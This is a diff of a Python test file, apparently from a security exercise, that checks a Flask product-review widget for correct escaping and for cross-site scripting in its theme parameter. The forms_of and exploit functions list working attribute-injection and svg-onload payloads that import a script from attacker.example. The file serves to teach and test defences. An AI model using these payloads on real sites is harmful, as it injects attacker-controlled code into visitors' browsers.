@@ -2,9 +2,8 @@ from flask import Flask
 from page import scripts_of, tags_of
 
 
-def open_page(code, **query):
-    review = code.Review('Ada "A."', 4, "<i>It's</i> bright")
-    lamp = code.Product("lamp-3", "Lamp <3>", [review])
+def ask(code, author="Ada", product="lamp-3", **query):
+    lamp = code.Product("lamp-3", "Lamp <3>", [code.Review(author, 4, "<i>It's</i> bright")])
 
     class Products:
         def find(self, key):
@@ -13,34 +12,56 @@ def open_page(code, **query):
     app = Flask("shop")
     code.add_review_widget(app, Products())
     client = app.test_client()
-    assert client.get("/widgets/reviews/none").status_code == 404
-    return client.get("/widgets/reviews/lamp-3", query_string=query).get_data(as_text=True)
+    return client.get(f"/widgets/reviews/{product}", query_string=query)
 
 
-def works(code):
-    html = open_page(code, theme="acme-dark", lang="de")
+def open_page(*args, **query):
+    return ask(*args, **query).get_data(as_text=True)
+
+
+def works(code, vary):
+    theme = f"{vary.word()}-{vary.pick(['dark', 'light', 'wide'])}"
+    lang = vary.pick(["de", "fr", "pl"])
+    author = f"{vary.name()} \"{vary.name()}\" O'{vary.name()}"
+    html = open_page(code, author, theme=theme, lang=lang)
     tags = {tag["name"]: tag for tag in tags_of(html)}
-    assert tags["body"]["attributes"] == {"class": "acme-dark"}
-    assert tags["html"]["attributes"] == {"lang": "de"}
-    assert tags["blockquote"]["text"] == "<i>It's</i> bright"
-    assert tags["a"]["text"] == "Lamp <3>"
+    assert tags["body"]["attributes"] == {"class": theme}, f"The theme {theme} should be the class of the body."
+    assert tags["html"]["attributes"] == {"lang": lang}, f"The language {lang} should be named in the page."
+    assert tags["b"]["text"] == author, f"The name {author} should be shown as it is."
+    assert tags["blockquote"]["text"] == "<i>It's</i> bright", "The text of a review should be shown as it is."
+    assert tags["a"]["text"] == "Lamp <3>", "The link should show the name of the product."
     plain = open_page(code, lang="x onload=y")
-    assert scripts_of(plain) == []
-    assert [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"] == ["light"]
+    assert scripts_of(plain) == [], "A language that does not exist should be replaced by English."
+    classes = [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"]
+    assert classes == ["light"], "Without a theme the class should be light."
+    missing = ask(code, author, vary.word(), theme=theme)
+    assert missing.status_code == 404, "A product that does not exist should be answered with 404."
 
 
-SCRIPT = "import(`//attacker.example/v.js`)"
-FORMS = (
-    f"dark onload={SCRIPT}",
-    f"dark\tonload={SCRIPT}",
-    f"dark onpageshow={SCRIPT}",
-    f"dark' onload='{SCRIPT}",
-    f'dark" onload="{SCRIPT}',
-)
+def forms_of(script):
+    return (
+        f"dark onload={script}",
+        f"dark\tonload={script}",
+        f"dark\nonload={script}",
+        f"dark\ronload={script}",
+        f"dark\fonload={script}",
+        f"dark onpageshow={script}",
+        f"dark OnLoad={script}",
+        f"dark' onload='{script}",
+        f'dark" onload="{script}',
+        f"dark'\fonload='{script}",
+        f"><svg onload={script}>",
+        f"'><svg onload={script}>",
+    )
 
 
-def exploit(code, vary=None, payloads=FORMS):
-    return any(SCRIPT in scripts_of(open_page(code, theme=theme)) for theme in payloads)
+def exploit(code, vary, payloads=None):
+    forms = forms_of(f"import(`//attacker.example/{vary.word()}`)") if payloads is None else payloads
+    for theme in forms:
+        for script in scripts_of(open_page(code, theme=theme)):
+            if script.startswith("import(`//attacker.example/"):
+                return {"sent": f"theme={theme}", "got": f"The browser runs {script}"}
+    return False
 
 
 # Attack mode: the learner writes the input.
